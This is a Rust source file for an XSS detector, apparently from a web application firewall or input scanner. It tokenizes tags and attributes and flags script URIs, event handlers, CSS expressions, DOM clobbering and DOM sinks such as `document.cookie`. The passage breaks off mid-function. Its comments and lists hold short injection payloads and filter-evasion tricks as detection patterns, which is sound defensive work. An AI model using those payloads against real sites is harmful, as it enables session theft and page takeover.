//! Cross-site scripting: an HTML tag tokenizer (tag names, attributes, values as browsers
//! split them: `/` separates attributes, quotes optional) plus the script contexts that need no
//! tag (`javascript:` URIs with whitespace inside the scheme, attribute and string break-outs,
//! DOM sinks). Entities and escapes are already decoded by normalization.

use super::normalize;
use super::subject::{
    class, find, find_iter, gate, is_word, skip_space, unsplit, Hit, Needs, Subject, Tables,
};

/// Tags that run script or change where scripts and forms load from.
/// (`link`, `meta`, `base`, `style`, `set`, `animate` count through their attributes: they
/// are ordinary elements in XML bodies and feeds.)
const DANGEROUS_TAGS: &[&[u8]] = &[
    b"script",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"svg",
    b"math",
    b"isindex",
    b"vmlframe",
    b"bgsound",
    b"portal",
    b"noembed",
    b"xmp",
    b"plaintext",
];

/// Attributes that take a URL (or code) browsers will load or run.
const URI_ATTRS: &[&[u8]] = &[
    b"href",
    b"src",
    b"action",
    b"formaction",
    b"data",
    b"xlink:href",
    b"from",
    b"to",
    b"values",
    b"background",
    b"dynsrc",
    b"lowsrc",
    b"poster",
    b"code",
    b"codebase",
    b"srcdoc",
    b"by",
    b"content",
    b"folder",
    b"value",
    b"attributename",
    b"ping",
];

const SCRIPT_SCHEMES: &[&[u8]] = &[b"javascript", b"vbscript", b"livescript", b"mocha"];

/// What `detect` needs to fire (see [`Needs`]): a tag, a scheme's colon, a handler's `=`, a
/// call; or, for a DOM sink, its object's name or a DOM gate word.
pub(crate) fn needs() -> Needs {
    Needs::classes(class::ANGLE | class::COLON | class::EQ | class::PAREN | class::BACKTICK)
        .or_keywords(SINK_OBJECTS.iter().map(|(o, _)| o))
        .or_words(&["fromcharcode", ".innerhtml", UTF7_LT, HIGH_LT])
}

/// `<` with the high bit set (`¼`, U+00BC).
const HIGH_LT: &str = "\u{bc}";

/// `<` in UTF-7 (`+ADw-`, or `+ADw` opening a longer run), which old browsers and
/// charset-sniffing parsers still decode.
const UTF7_LT: &str = "+adw";

/// Finds XSS in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.has(class::OPS) {
        for p in find_iter(b, UTF7_LT.as_bytes()) {
            // A tag name, then what ends one: a space, `/` or `>`.
            let d = normalize::utf7(&s.text.as_bytes()[p..b.len().min(p + 512)]);
            let name = 1 + usize::from(d.get(1) == Some(&b'/'));
            let end = name
                + d[name..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphabetic())
                    .count();
            if end > name && matches!(d.get(end), Some(b' ' | b'/' | b'>')) {
                return Some(Hit::new("xss.dangerous_tag", p, (p + 5).min(b.len())));
            }
        }
    }
    if s.has(class::HIGH) && find(b, HIGH_LT.as_bytes()).is_some() {
        // Markup with the high bit set (`%bcscript%be`): old US-ASCII decoders dropped it.
        // (Before the ASCII gate below: such markup need not hold one ASCII sign.)
        let folded: Vec<u8> = s
            .lower
            .chars()
            .map(|c| match c {
                // `Ó` (0xd3) drops to `S`: lowercased as the rest of the value was.
                '\u{a0}'..='\u{ff}' => ((c as u32 - 0x80) as u8).to_ascii_lowercase(),
                c if c.is_ascii() => c as u8,
                _ => b'?',
            })
            .collect();
        if let Some(h) = tags(&folded) {
            return Some(Hit::new(h.rule, 0, b.len().min(16)));
        }
    }
    // A computed member (`document["cookie"]`) needs no sign but its bracket.
    let signs = class::ANGLE | class::COLON | class::EQ | class::PAREN | class::DOT;
    if !s.has(signs | class::BACKTICK | class::BRACKET) {
        return None;
    }
    if s.has(class::ANGLE) {
        for pi in [&b"<?import"[..], b"<?xml:namespace"]
            .into_iter()
            .filter(|_| s.gate(gate::DOM))
        {
            if let Some(p) = find(b, pi) {
                return Some(Hit::new("xss.dangerous_tag", p, p + pi.len()));
            }
        }
        if let Some(h) = tags(b) {
            return Some(h);
        }
    }
    if s.has(class::COLON) {
        if let Some(h) = script_uri(b) {
            return Some(h);
        }
    }
    if s.has(class::EQ) {
        if let Some(h) = loose_handler(b) {
            return Some(h);
        }
    }
    if s.has(class::PAREN) {
        // A CSS `url(javascript…)` outside a style tag (an attribute value, a style field).
        for p in find_iter(b, b"url(") {
            let v = skip_space(b, p + 4);
            let v = v + usize::from(matches!(b.get(v), Some(b'"' | b'\'')));
            if SCRIPT_SCHEMES.iter().any(|sch| b[v..].starts_with(sch)) {
                return Some(Hit::new("xss.css_expression", p, (v + 10).min(b.len())));
            }
            // A binding (`-moz-binding: url(…)`, IE's `behavior: url(…)`) runs the script
            // the URL names, whatever its scheme.
            let before = b[..p].trim_ascii_end();
            if let Some(before) = before.strip_suffix(b":") {
                let property = before.trim_ascii_end();
                if [&b"-moz-binding"[..], b"behavior", b"behaviour"]
                    .iter()
                    .any(|n| property.ends_with(n))
                {
                    return Some(Hit::new("xss.css_expression", p, (p + 4).min(b.len())));
                }
            }
        }
    }
    if s.has(class::PAREN) && s.has(class::COLON) {
        if let Some(h) = css_expression(b) {
            return Some(h);
        }
    }
    // Pieces joined by `+` (quoted or regex sources) can only spell a script URL, a tag or a
    // call out of the value's own `:`, `<`, `(` or backtick.
    if s.has(class::OPS)
        && s.has(class::QUOTE | class::SLASH)
        && s.has(class::COLON | class::ANGLE | class::PAREN | class::BACKTICK)
    {
        if let Some(h) = split_literals(b) {
            return Some(h);
        }
    }
    if s.has(class::DOT | class::PAREN | class::BACKTICK | class::BRACKET) {
        return script_context(s);
    }
    None
}

/// A CSS declaration whose value is IE's `expression(…)` (`left:expression(alert(1))`), also
/// with comments splitting the word (`EXPR/**/ESSION(`), as IE read it: script run by a style.
/// The property is glued to its colon and the call to its parenthesis, so "Note: expression(s)"
/// and "Regular expression: (a|b)" are prose.
fn css_expression(b: &[u8]) -> Option<Hit> {
    let joined = find(b, b"/*").and_then(|_| unsplit(b));
    let text = joined.as_deref().unwrap_or(b);
    let whole = joined.is_some();
    // Bound before returning: the iterator borrows `joined`, which the tail would outlive.
    let hit = find_iter(text, b"expression(").find_map(|p| {
        let before = text[..p].trim_ascii_end().strip_suffix(b":")?;
        let property = before.len()
            - before
                .iter()
                .rev()
                .take_while(|c| c.is_ascii_alphabetic() || **c == b'-')
                .count();
        let argument = &text[p + 11..];
        let plural = argument.starts_with(b"s)");
        // Offsets into the joined copy do not point into the value: report it whole.
        (property < before.len() && !plural).then(|| {
            let (s, e) = if whole {
                (0, b.len())
            } else {
                (property, p + 11)
            };
            Hit::new("xss.css_expression", s, e)
        })
    });
    hit
}

/// Whether the `<svg` tag whose name ends at `name_end` declares the SVG namespace: it opens
/// an SVG document (an image sent as text), not markup pasted into a page, and its attributes
/// and children are read like any element's (`onload=`, `<script>`, `xlink:href=javascript:`
/// still count). A closing `</svg>` carries nothing either way.
fn svg_document(b: &[u8], name_end: usize) -> bool {
    let tag = &b[name_end..b.len().min(name_end + 256)];
    let tag = &tag[..memchr::memchr(b'>', tag).unwrap_or(tag.len())];
    find_iter(tag, b"xmlns=").any(|p| {
        matches!(tag.get(p + 6), Some(b'"' | b'\''))
            && tag[p + 7..].starts_with(b"http://www.w3.org/2000/svg")
    })
}

fn tags(b: &[u8]) -> Option<Hit> {
    let mut from = 0;
    let mut ids = Vec::new();
    // Inside the value's own `<head>…</head>`, where a document declares its metadata.
    let mut in_head = false;
    while let Some(off) = memchr::memchr(b'<', &b[from..]) {
        let lt = from + off;
        let mut j = lt + 1;
        if b.get(j) == Some(&b'/') {
            j += 1;
        }
        let name_start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b':' | b'-' | b'_')) {
            j += 1;
        }
        let name = &b[name_start..j];
        if name.len() == 1 {
            if let Some(end) = spaced_tag(b, name_start) {
                return Some(Hit::new("xss.dangerous_tag", lt, end));
            }
        }
        let boundary = match b.get(j) {
            None => true,
            Some(c) => c.is_ascii_whitespace() || matches!(c, b'/' | b'>' | 0 | 0x0b | 0x0c),
        };
        if name.is_empty() || !name[0].is_ascii_alphabetic() || !boundary {
            from = lt + 1;
            continue;
        }
        let local = name.rsplit(|c| *c == b':').next().unwrap_or(name);
        let closing = name_start > lt + 1;
        if local == b"head" {
            in_head = !closing;
        }
        if DANGEROUS_TAGS.contains(&local) && !(local == b"svg" && (closing || svg_document(b, j)))
        {
            return Some(Hit::new("xss.dangerous_tag", lt, j));
        }
        if local == b"style" && css_is_active(&b[j..b.len().min(j + 1024)]) {
            return Some(Hit::new("xss.css_expression", lt, j));
        }
        let (hit, end) = attributes(b, j, local, &mut ids, in_head);
        if hit.is_some() {
            return hit;
        }
        from = end.max(lt + 1);
    }
    None
}

/// A URL that leaves the page's origin: `http://`, `https://` or protocol-relative `//`.
fn remote_url(v: &[u8]) -> bool {
    let v = v.trim_ascii_start();
    v.starts_with(b"http://") || v.starts_with(b"https://") || v.starts_with(b"//")
}

/// Tags whose name spelled with whitespace between its letters (`<f o r m`, `<s\tc r i p t`)
/// is an evasion of filters that look for the name: no markup or prose writes a tag so.
const SPACED_TAGS: &[&[u8]] = &[
    b"script", b"iframe", b"frame", b"object", b"embed", b"applet", b"svg", b"form", b"style",
    b"link", b"meta", b"base", b"math",
];

/// The end of a tag name spelled one letter at a time from `i`, if it names a [`SPACED_TAGS`]
/// tag and ends there.
fn spaced_tag(b: &[u8], mut i: usize) -> Option<usize> {
    let single = |i: usize| {
        b.get(i).is_some_and(u8::is_ascii_alphabetic)
            && b.get(i + 1).is_none_or(|c| !c.is_ascii_alphanumeric())
    };
    let mut name = [0u8; 8];
    let mut n = 0;
    while n < name.len() && single(i) {
        name[n] = b[i];
        n += 1;
        i += 1;
        let gap = b[i..]
            .iter()
            .take(4)
            .take_while(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c))
            .count();
        let more = gap > 0 && single(i + gap);
        if !more {
            return (n >= 3 && SPACED_TAGS.contains(&&name[..n])).then_some(i);
        }
        i += gap;
    }
    None
}

/// Document and window members that scripts read and that an element's `id` or `name`
/// overrides (DOM clobbering): `<img name=cookie>` makes `document.cookie` an element,
/// `<form><input name=attributes>` blinds a sanitizer walking `form.attributes`.
const CLOBBERED: &[&[u8]] = &[
    b"attributes",
    b"cookie",
    b"domain",
    b"body",
    b"head",
    b"location",
    b"documentelement",
    b"defaultview",
    b"currentscript",
    b"getelementbyid",
    b"getelementsbytagname",
    b"getelementsbyclassname",
    b"queryselector",
    b"queryselectorall",
    b"createelement",
    b"appendchild",
    b"removechild",
    b"setattribute",
    b"getattribute",
    b"innerhtml",
    b"outerhtml",
    b"nodename",
    b"nodetype",
    b"parentnode",
    b"childnodes",
    b"firstchild",
    b"ownerdocument",
    b"referrer",
    b"baseuri",
    b"implementation",
];

/// Framework attributes whose value is an expression run on an event or at render: AngularJS
/// `ng-click`, `ng-focus`, `ng-init` (`data-` and `x-` prefixed too), Vue `v-on:click`, `@click`.
fn is_directive_handler(name: &[u8]) -> bool {
    let name = name
        .strip_prefix(b"data-")
        .or_else(|| name.strip_prefix(b"x-"))
        .unwrap_or(name);
    name.strip_prefix(b"ng-").is_some_and(|d| {
        d == b"init" || is_handler_name(&[b"on", d].concat()) || d.starts_with(b"on-")
    }) || name.starts_with(b"v-on:")
        || (name.len() > 3 && name[0] == b'@' && name[1..].iter().all(u8::is_ascii_alphabetic))
}

/// Whether a directive's expression calls or reaches for a constructor (`alert(1)`,
/// `[].constructor.from(…)`), not a plain handler name (`ng-click=save`).
fn directive_runs(v: &[u8]) -> bool {
    memchr::memchr(b'(', v).is_some() || find(v, b"constructor").is_some()
}

/// A `<meta>` attribute that takes the page over: a refresh (to `javascript:` or anywhere), a
/// cookie set by markup, a charset whose escapes hide markup from a filter (UTF-7's `+ADw-`,
/// ISO-2022-JP's escape sequences), and any charset or `http-equiv` injected on its own (a
/// probe for the next). In a document's own `<head>` (`in_head`), the `Content-Type`,
/// `X-UA-Compatible` and `Content-Language` an HTML e-mail declares, in a common charset, are
/// not.
fn meta_hijack(name: &[u8], value: &[u8], in_head: bool) -> bool {
    match name {
        b"http-equiv" => {
            let v = value.trim_ascii();
            !in_head
                || !matches!(
                    v,
                    b"content-type" | b"x-ua-compatible" | b"content-language"
                )
        }
        b"charset" => !in_head || !plain_charset(value.trim_ascii()),
        b"content" => find(value, b"charset=").is_some_and(|p| {
            let rest = &value[p + 8..];
            let end = rest
                .iter()
                .position(|c| matches!(c, b';' | b' ' | b'"' | b'\''))
                .unwrap_or(rest.len());
            !plain_charset(&rest[..end])
        }),
        _ => false,
    }
}

/// Charsets whose bytes read as ASCII where ASCII is written: no escape sequence turns text
/// into markup.
fn plain_charset(c: &[u8]) -> bool {
    matches!(c, b"utf-8" | b"utf8" | b"us-ascii" | b"ascii" | b"latin1")
        || c.strip_prefix(b"iso-8859-")
            .is_some_and(|n| n.iter().all(u8::is_ascii_digit))
        || c.strip_prefix(b"windows-125")
            .is_some_and(|n| n.len() == 1 && n[0].is_ascii_digit())
}

/// Walks the attributes of a tag from `i`; returns a hit and where the tag ended. `ids`
/// holds the `id` values of earlier tags of the value: two elements with one `id` make a
/// collection that clobbers a global (`<a id=x><a id=x name=y href=…>`); `in_head`, whether
/// the tag is inside the value's own `<head>`.
fn attributes<'b>(
    b: &'b [u8],
    mut i: usize,
    tag: &[u8],
    ids: &mut Vec<&'b [u8]>,
    in_head: bool,
) -> (Option<Hit>, usize) {
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || matches!(b[i], b'/' | 0 | 0x0b)) {
            i += 1;
        }
        if i >= b.len() || b[i] == b'>' || b[i] == b'<' {
            return (None, i);
        }
        let ns = i;
        while i < b.len()
            && !b[i].is_ascii_whitespace()
            && !matches!(b[i], b'/' | b'>' | b'=' | b'<')
        {
            i += 1;
        }
        let name = &b[ns..i];
        i = skip_space(b, i);
        if b.get(i) != Some(&b'=') {
            // `<base href` re-roots every relative URL of the page, however it goes on.
            if tag == b"base" && name == b"href" {
                return (Some(Hit::new("xss.dangerous_tag", ns, i)), i);
            }
            continue;
        }
        i = skip_space(b, i + 1);
        let (vs, ve) = match b.get(i) {
            Some(q @ (b'"' | b'\'' | b'`')) => {
                let closed = memchr::memchr(*q, &b[i + 1..]).map(|e| i + 1 + e);
                // Dangling markup: a URL attribute whose quote the value never closes sends the
                // page, up to the next such quote, to the URL's host: no script needed. A link
                // (`<a href="…`) sends it only when clicked: a post cut short writes one too.
                let loads = !matches!(tag, b"a" | b"area");
                if closed.is_none() && loads && URI_ATTRS.contains(&name) && remote_url(&b[i + 1..])
                {
                    return (Some(Hit::new("xss.dangling_markup", ns, b.len())), b.len());
                }
                let end = closed.unwrap_or(b.len());
                let r = (i + 1, end);
                i = (end + 1).min(b.len());
                r
            }
            // `rel=\"stylesheet\"`: markup inside a JSON or script string, its quotes escaped.
            Some(b'\\') if matches!(b.get(i + 1), Some(b'"' | b'\'')) => {
                let closing = [b'\\', b[i + 1]];
                let end = find(&b[i + 2..], &closing).map_or(b.len(), |e| i + 2 + e);
                let r = (i + 2, end);
                i = (end + 2).min(b.len());
                r
            }
            _ => {
                let s = i;
                while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                    i += 1;
                }
                (s, i)
            }
        };
        let value = &b[vs..ve];
        if is_handler_name(name) || (is_directive_handler(name) && directive_runs(value)) {
            return (Some(Hit::new("xss.event_handler", ns, ve)), i);
        }
        if matches!(name, b"id" | b"name") {
            let earlier_id = name == b"id" && ids.contains(&value);
            if CLOBBERED.contains(&value) || earlier_id {
                return (Some(Hit::new("xss.dom_clobbering", ns, ve)), i);
            }
            if name == b"id" && ids.len() < 8 {
                ids.push(value);
            }
        }
        if URI_ATTRS.contains(&name) && starts_with_script_scheme(value) {
            return (Some(Hit::new("xss.script_uri", ns, ve)), i);
        }
        if name == b"style" && css_is_active(value) {
            return (Some(Hit::new("xss.css_expression", ns, ve)), i);
        }
        let hijack = matches!(name, b"datasrc" | b"dataformatas" | b"datafld")
            || (tag == b"meta" && meta_hijack(name, value, in_head))
            || (tag == b"base" && name == b"href")
            // A form sent to another host: what the page's user types (a password, a token
            // the page fills in) goes there.
            || ((name == b"formaction" || (tag == b"form" && name == b"action"))
                && remote_url(value))
            // A stylesheet or script pulled in by `<link>` (feeds' `<link rel=alternate>` pass).
            || (tag == b"link"
                && ((name == b"rel"
                    && value
                        .split(u8::is_ascii_whitespace)
                        .any(|r| matches!(r, b"stylesheet" | b"import" | b"modulepreload")))
                    || (name == b"type" && find(value, b"script").is_some())))
            // Netscape's JavaScript style sheets; an IE data island loaded from a URL.
            || (tag == b"style" && name == b"type" && find(value, b"script").is_some())
            || (tag == b"xml" && name == b"src")
            || (name == b"attributename" && is_handler_name(value));
        if hijack {
            return (Some(Hit::new("xss.dangerous_tag", ns, ve)), i);
        }
        if name == b"srcdoc" {
            return (Some(Hit::new("xss.script_uri", ns, ve)), i);
        }
    }
}

fn is_handler_name(name: &[u8]) -> bool {
    name.len() >= 5
        && name.len() <= 64
        && name.starts_with(b"on")
        && name[2..].iter().all(u8::is_ascii_alphabetic)
}

fn css_is_active(v: &[u8]) -> bool {
    let f = |n: &[u8]| find(v, n).is_some();
    f(b"expression(")
        || f(b"javascript:")
        || f(b"-moz-binding")
        || f(b"behavior:")
        || f(b"behaviour:")
        || f(b"binding:")
        || f(b"@import")
}

/// `javascript:` and friends, with whitespace and control characters allowed inside the
/// scheme as browsers allow them.
fn starts_with_script_scheme(v: &[u8]) -> bool {
    let mut squeezed = [0u8; 16];
    let mut n = 0;
    for &c in v.iter().take(64) {
        if c <= b' ' {
            continue;
        }
        if c == b':' {
            let word = &squeezed[..n];
            return SCRIPT_SCHEMES.contains(&word)
                || (word == b"data" && data_is_active(&v[v.len().min(n)..]));
        }
        if n == squeezed.len() || !c.is_ascii_alphabetic() {
            return false;
        }
        squeezed[n] = c;
        n += 1;
    }
    false
}

fn data_is_active(rest: &[u8]) -> bool {
    let f = |n: &[u8]| find(rest, n).is_some();
    f(b"text/html") || f(b"svg") || f(b"javascript") || f(b"xml")
}

/// The blanks after a scheme's colon, spelled as they are or URL-encoded (`%20`, `+`): a
/// browser decodes the URL before it runs it, so `javascript:%20Basics%20of…` is the title it
/// decodes to, and `javascript:%20alert(1)` the call.
fn skip_blanks(rest: &[u8]) -> usize {
    let mut k = 0;
    loop {
        k = skip_space(rest, k);
        match rest.get(k..k + 3) {
            Some([b'%', b'2', b'0'] | [b'%', b'0', b'9' | b'a' | b'A' | b'd' | b'D']) => k += 3,
            _ if rest.get(k) == Some(&b'+') => k += 1,
            _ => return k,
        }
    }
}

/// A script scheme anywhere: the value is a URL a page may render as a link.
fn script_uri(b: &[u8]) -> Option<Hit> {
    for colon in memchr::memchr_iter(b':', b) {
        // Collect letters backwards, skipping whitespace/control inside the scheme.
        let mut j = colon;
        let mut letters = [0u8; 24];
        // Where each letter stands: the scheme starts at its first letter, not at the blank
        // before it (`hi javascript:` is the scheme after a word, not `hijavascript`).
        let mut at = [0usize; 24];
        let mut n = 0;
        while j > 0 && n < letters.len() {
            let c = b[j - 1];
            if c.is_ascii_alphabetic() {
                letters[letters.len() - 1 - n] = c;
                at[at.len() - 1 - n] = j - 1;
                n += 1;
            } else if c > b' ' {
                break;
            }
            j -= 1;
        }
        let word = &letters[letters.len() - n..];
        let scheme = SCRIPT_SCHEMES.iter().find(|s| word.ends_with(s));
        // A scheme inside a longer word may be what a filter's deletion leaves of it.
        let token = |start: usize| start == 0 || !is_word(b[start - 1]);
        let start = match scheme.map(|s| at[at.len() - s.len()]) {
            Some(start) if token(start) => start,
            _ if n > 0 && token(at[at.len() - n]) && stripped_scheme(word) => at[at.len() - n],
            Some(_) => continue,
            None => {
                if word.ends_with(b"data") && data_uri_at(b, colon) {
                    return Some(Hit::new(
                        "xss.script_uri",
                        colon.saturating_sub(4),
                        colon + 1,
                    ));
                }
                continue;
            }
        };
        // Tabs or line breaks inside the scheme (`java\tscript:`): only an evasion does that.
        if b[start..colon].iter().any(|c| *c < b' ') {
            return Some(Hit::new("xss.script_uri", start, colon + 1));
        }
        let rest = &b[colon + 1..];
        let k = skip_blanks(rest);
        // After a space the script must start at once (`javascript: alert(1)`); a title
        // goes on in words ("JavaScript: The Good Parts (book)").
        let word = rest[k..].iter().take_while(|c| is_word(**c)).count();
        let starts_code = k == 0
            || word == 0
            || rest
                .get(k + word)
                .is_some_and(|c| matches!(c, b'(' | b'.' | b'=' | b'[' | b'`' | b';'));
        let code = starts_code
            && rest[k..]
                .iter()
                .take(200)
                .any(|c| matches!(c, b'(' | b'`' | b'=' | b'%'))
            || (k == 0 && rest.first().is_some_and(|c| c.is_ascii_alphabetic()));
        if code {
            return Some(Hit::new("xss.script_uri", start, (colon + 12).min(b.len())));
        }
    }
    None
}

/// A scheme that a filter deleting `script` or `javascript` once leaves behind:
/// `javasscriptcript`, `javascriptjavascript`, `jajavascriptvascript`.
fn stripped_scheme(word: &[u8]) -> bool {
    [&b"javascript"[..], b"script"].iter().any(|needle| {
        word.windows(needle.len())
            .enumerate()
            .filter(|(_, w)| w == needle)
            .any(|(k, _)| {
                let rest = [&word[..k], &word[k + needle.len()..]].concat();
                SCRIPT_SCHEMES.contains(&rest.as_slice())
            })
    })
}

fn data_uri_at(b: &[u8], colon: usize) -> bool {
    const ACTIVE: &[&str] = &[
        "text/html",
        "image/svg",
        "application/x",
        "text/javascript",
        "application/javascript",
        "text/ecmascript",
        "application/ecmascript",
        "text/xml",
    ];
    let rest = &b[colon + 1..b.len().min(colon + 40)];
    ACTIVE.iter().any(|t| rest.starts_with(t.as_bytes()))
}

/// `onerror=` outside a tag: an attribute break-out (`" onmouseover="alert(1)`).
fn loose_handler(b: &[u8]) -> Option<Hit> {
    let first_quote = b
        .iter()
        .position(|c| matches!(c, b'"' | b'\'' | b'`' | b'<'));
    for eq in memchr::memchr_iter(b'=', b) {
        let mut j = eq;
        while j > 0 && b[j - 1].is_ascii_whitespace() {
            j -= 1;
        }
        let end = j;
        while j > 0 && b[j - 1].is_ascii_alphabetic() {
            j -= 1;
        }
        if !is_handler_name(&b[j..end]) {
            continue;
        }
        let before_ok = j == 0
            || matches!(
                b[j - 1],
                b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'/' | b';' | 0x0c | b'`'
            );
        if !before_ok {
            continue;
        }
        let quote_before = first_quote.is_some_and(|q| q < j);
        let after = &b[eq + 1..b.len().min(eq + 120)];
        let code = after.iter().any(|c| matches!(c, b'(' | b'`' | b'&' | b'{'))
            || DIALOG_NAMES
                .iter()
                .any(|d| find(after, d.as_bytes()).is_some());
        if (quote_before || code) && !names_a_function(after) {
            return Some(Hit::new("xss.event_handler", j, (eq + 12).min(b.len())));
        }
    }
    None
}

/// Whether a handler's value only names a function (`{handleClick}`, JSX written in prose),
/// which runs nothing.
fn names_a_function(v: &[u8]) -> bool {
    let v = &v[skip_space(v, 0)..];
    v.strip_prefix(b"{").is_some_and(|r| {
        let n = r.iter().take_while(|c| is_word(**c) || **c == b'.').count();
        n > 0
            && r.get(n) == Some(&b'}')
            && !DIALOG_NAMES.iter().any(|d| r[..n].ends_with(d.as_bytes()))
    })
}

const SINK_OBJECTS: &[(&[u8], &[&[u8]])] = &[
    (
        b"document",
        &[
            b"cookie",
            b"write",
            b"writeln",
            b"domain",
            b"location",
            b"body",
            b"createelement",
            b"queryselector",
            b"queryselectorall",
            b"getelementbyid",
            b"getelementsbyname",
            b"getelementsbytagname",
            b"getelementsbyclassname",
        ],
    ),
    (
        b"window",
        &[b"location", b"open", b"eval", b"name", b"execscript"],
    ),
    (b"self", &[b"location", b"eval"]),
    (b"top", &[b"location", b"eval", b"open"]),
    (b"parent", &[b"location", b"eval", b"open"]),
    (b"location", &[b"href", b"hash", b"replace", b"assign"]),
];

/// The names [`SINK_OBJECTS`] and [`GLOBALS`] hold, as the keyword pass's `JS_OBJECT` gate.
pub(crate) fn js_objects() -> impl Iterator<Item = &'static str> {
    let names = SINK_OBJECTS
        .iter()
        .map(|o| o.0)
        .chain(GLOBALS.iter().copied());
    names.filter_map(|n| std::str::from_utf8(n).ok())
}

/// Names of the global object, through which every global function is reachable.
const GLOBALS: &[&[u8]] = &[
    b"window",
    b"self",
    b"top",
    b"parent",
    b"globalthis",
    b"frames",
    // Other windows' global objects: an opener's, a frame's, a document's own (Internet
    // Explorer's `document.parentWindow`).
    b"opener",
    b"contentwindow",
    b"defaultview",
    b"parentwindow",
];

/// Functions that show a dialog or run a string: an injection's proof or its payload. Also the
/// needles of the keyword pass's `DIALOG` gate.
pub(crate) const DIALOG_NAMES: &[&str] = &[
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
];

fn is_dialog(name: &[u8]) -> bool {
    DIALOG_NAMES.iter().any(|d| d.as_bytes() == name)
}

/// Keywords that take an expression (`void alert(1)`), so one may sit between a break-out
/// and its call.
const OPERATOR_WORDS: &[&[u8]] = &[
    b"void",
    b"typeof",
    b"delete",
    b"new",
    b"in",
    b"instanceof",
    b"throw",
    b"return",
    b"await",
    b"yield",
];

const CALLS: &[&[u8]] = &[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"function",
    b"fetch",
    b"import",
    b"atob",
    b"print",
];

/// DOM sinks (`document.cookie`, comments or whitespace allowed around the dot) and string
/// break-outs into a call (`';alert(1)//`).
fn script_context(s: &Subject<'_>) -> Option<Hit> {
    let (b, paranoia) = (s.bytes(), s.paranoia);
    let objects: &[u8] = if s.gate(gate::JS_OBJECT) { b } else { &[] };
    for dot in memchr::memchr_iter(b'.', objects) {
        let (ws, we) = word_before(b, dot);
        let obj = &b[ws..we];
        let props = SINK_OBJECTS
            .iter()
            .find(|(o, _)| *o == obj)
            .map_or(&[][..], |(_, p)| p);
        if props.is_empty() && !GLOBALS.contains(&obj) {
            continue;
        }
        if ws > 0 && is_word(b[ws - 1]) {
            continue;
        }
        let ps = skip_js_space(b, dot + 1);
        let mut pe = ps;
        while pe < b.len() && b[pe].is_ascii_alphabetic() {
            pe += 1;
        }
        // A call with nothing to write, open or run (`window.open()` in prose) does no harm.
        let open = skip_js_space(b, pe);
        let empty_call =
            b.get(open) == Some(&b'(') && b.get(skip_js_space(b, open + 1)) == Some(&b')');
        if props.contains(&&b[ps..pe]) && !empty_call {
            return Some(Hit::new("xss.dom_sink", ws, pe));
        }
        // A dialog or timer called through a global (`top.alert(1)`, `self.confirm\`1\``).
        let called = matches!(b.get(open), Some(b'(' | b'`')) && !empty_call;
        if called && GLOBALS.contains(&obj) && is_dialog(&b[ps..pe]) {
            return Some(Hit::new("xss.js_breakout", ws, pe));
        }
    }
    if s.has(class::BRACKET) {
        if let Some(h) = bracket_sink(b).or_else(|| jsfuck(b)) {
            return Some(h);
        }
    }
    if s.has(class::BACKTICK) {
        if let Some(h) = tagged_call(b) {
            return Some(h);
        }
    }
    if let Some(h) = indirect_call(b, s.gate(gate::DIALOG)) {
        return Some(h);
    }
    if s.gate(gate::DOM) {
        if let Some(at) = find(b, b"fromcharcode").or_else(|| find(b, b".innerhtml")) {
            return Some(Hit::new("xss.dom_sink", at, at + 12));
        }
        if let Some(h) = com_object(b) {
            return Some(h);
        }
    }
    if s.has(class::QUOTE) {
        if let Some(h) = created_element(b) {
            return Some(h);
        }
    }
    // A call preceded by a string or statement break-out.
    let mut first_break = None;
    for i in memchr::memchr2_iter(b'(', b'`', b) {
        // The callee: a name, then perhaps comments, spaces or an optional chain's `?.`.
        let callee_end = if b[..i].ends_with(b"?.") { i - 2 } else { i };
        let (ws, we) = word_before(b, callee_end);
        if skip_js_space(b, we) != callee_end || !CALLS.contains(&&b[ws..we]) {
            continue;
        }
        let dialog = is_dialog(&b[ws..we]);
        let mut k = ws;
        while k > 0 && (b[k - 1].is_ascii_whitespace()) {
            k -= 1;
        }
        // An operator keyword before a dialog (`'-typeof alert(1)-'`, `';void prompt(1)//`).
        let (ks, ke) = word_before(b, k);
        let keyword = dialog && ke == k && ks < ke && OPERATOR_WORDS.contains(&&b[ks..ke]);
        if keyword {
            k = ks;
            while k > 0 && (b[k - 1].is_ascii_whitespace()) {
                k -= 1;
            }
        }
        // A template's `${`, or a comment closed (`*/alert(1)`), starts code wherever it is.
        let opened = (k >= 2 && matches!(&b[k - 2..k], b"${" | b"*/"))
            || (keyword && ks > 0 && matches!(b[ks - 1], b'"' | b'\'' | b'`'));
        let breakout = opened
            || (k > 0
                && matches!(
                    b[k - 1],
                    b';' | b'+'
                        | b'-'
                        | b'|'
                        | b'&'
                        | b'}'
                        | b'('
                        | b'*'
                        | b','
                        | b'{'
                        | b'>'
                        | b'='
                        | b'?'
                        | b':'
                        | b')'
                        | b'^'
                        | b'%'
                        | b'/'
                        | b'~'
                        | b'!'
                        | b'<'
                )
                && first_break
                    .get_or_insert_with(|| {
                        b.iter()
                            .position(|c| matches!(c, b'"' | b'\'' | b'`' | b'>' | b'}' | b';'))
                    })
                    .is_some_and(|f| f < k));
        // A whole value that is a call (`alert(1)`), not a word before a remark (`Prompt (…)`).
        let bare = k == 0 && we == callee_end && (paranoia >= 2 || (dialog && whole_call(b, i)));
        if breakout || bare {
            return Some(Hit::new(
                "xss.js_breakout",
                k.saturating_sub(1),
                (i + 6).min(b.len()),
            ));
        }
    }
    None
}

/// Whether the call opened at `open` (`(` or a template's backtick) is all that is left of the
/// value (a `;` or a `//` comment may end it): `alert(1)`, `confirm\`x\``, not `alert(s) are…`.
fn whole_call(b: &[u8], open: usize) -> bool {
    let close = if b[open] == b'`' {
        memchr::memchr(b'`', &b[open + 1..]).map(|e| open + 1 + e)
    } else {
        let mut depth = 0usize;
        b[open..]
            .iter()
            .position(|c| {
                match c {
                    b'(' => depth += 1,
                    b')' => depth -= 1,
                    _ => {}
                }
                depth == 0
            })
            .map(|e| open + e)
    };
